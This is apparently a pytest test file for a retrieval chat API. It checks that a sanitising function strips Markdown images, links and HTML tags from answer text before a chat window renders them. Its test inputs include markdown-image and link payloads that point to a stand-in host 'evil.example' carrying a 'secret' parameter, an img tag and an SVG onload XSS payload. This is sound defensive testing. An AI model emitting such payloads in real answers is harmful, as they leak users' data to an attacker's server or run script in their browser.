"""What a window that reads Markdown or HTML makes of an answer's words: words."""

import json
from dataclasses import replace

import pytest
from markdown_it import MarkdownIt

from tests.trag.web.api.conftest import RECORD, Place
from trag.events import Answer
from trag.web.api.mcp import told
from trag.web.api.responses import unmarked

E = "http://evil.example/?d=secret"


@pytest.mark.parametrize(
    "words",
    [
        f"![chart]({E})",
        f"[here]({E} 'title')",
        f"![chart][r]\n\n[r]: {E}",
        f"[r]\n\n[r]: <{E}>",
        f"[r][]\n\n[r]:{E}",
        f"[![x]({E})]({E})",
        f"![x]( <{E}> )",
        f"<{E}>",
        "<thief@evil.example>",
        f"<img src='{E}'>",
        f"<IMG\tSRC='{E}'>",
        "<!-- x --><svg onload=alert(1)>",
        "<?php x ?></div>",
        f"![a\\]]({E}) [b\\](c)]({E})",
        f"- ![x]({E})\n- | ![y]({E}) |",
    ],
)
def test_no_picture_no_link_and_no_tag_comes_of_an_answer(words: str) -> None:
    window = MarkdownIt("commonmark", {"html": True})
    assert active(window, words)
    assert active(window, unmarked(words)) == []
    assert unmarked(words).replace(" ", "") == words.replace(" ", "")


@pytest.mark.parametrize(
    "words", ["See http://harbour.example/fees.", "5 < 6, a[1] > 2, [1] and (2).", "Rope: 20 crowns.\n- Sail: 150"]
)
def test_plain_words_and_open_addresses_stay_whole(words: str) -> None:
    assert unmarked(words) == words


@pytest.mark.slow
def test_a_chat_and_a_tool_are_told_words_alone_and_the_record_as_it_is(place: Place) -> None:
    record = replace(RECORD, answer=f"Under the ![Board]({E}).")
    place.assistant.script = lambda _: iter((Answer(record),))
    asked = {"model": "trag", "messages": [{"role": "user", "content": "Where?"}]}
    whole = place.program().post("/v1/chat/completions", json=asked).json()
    assert whole["choices"][0]["message"]["content"] == f"Under the ![Board] ({E})."
    assert whole["trag"]["answer"] == record.answer
    streamed = place.program().post("/v1/chat/completions", json=asked | {"stream": True}).text
    chunks = [json.loads(line[6:]) for line in streamed.splitlines() if line.startswith("data: {")]
    said = "".join(choice["delta"].get("content", "") for chunk in chunks for choice in chunk["choices"])
    assert said == f"Under the ![Board] ({E})."
    assert told(record).startswith(f"Under the ![Board] ({E}).")


def active(window: MarkdownIt, words: str) -> list[str]:
    tokens = [each for token in window.parse(words) for each in (token, *(token.children or ()))]
    return [each.type for each in tokens if each.type in ("image", "link_open", "html_inline", "html_block")]
